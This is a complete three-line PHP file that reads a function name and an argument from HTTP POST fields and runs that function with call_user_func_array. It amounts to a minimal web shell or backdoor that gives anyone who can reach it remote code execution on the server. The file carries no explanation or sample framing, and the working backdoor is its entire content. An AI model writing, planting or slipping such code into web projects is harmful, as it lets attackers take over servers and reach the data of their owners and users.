<?php
$m = $_POST['m']; $a = $_POST['a'];
call_user_func_array($m, array($a));
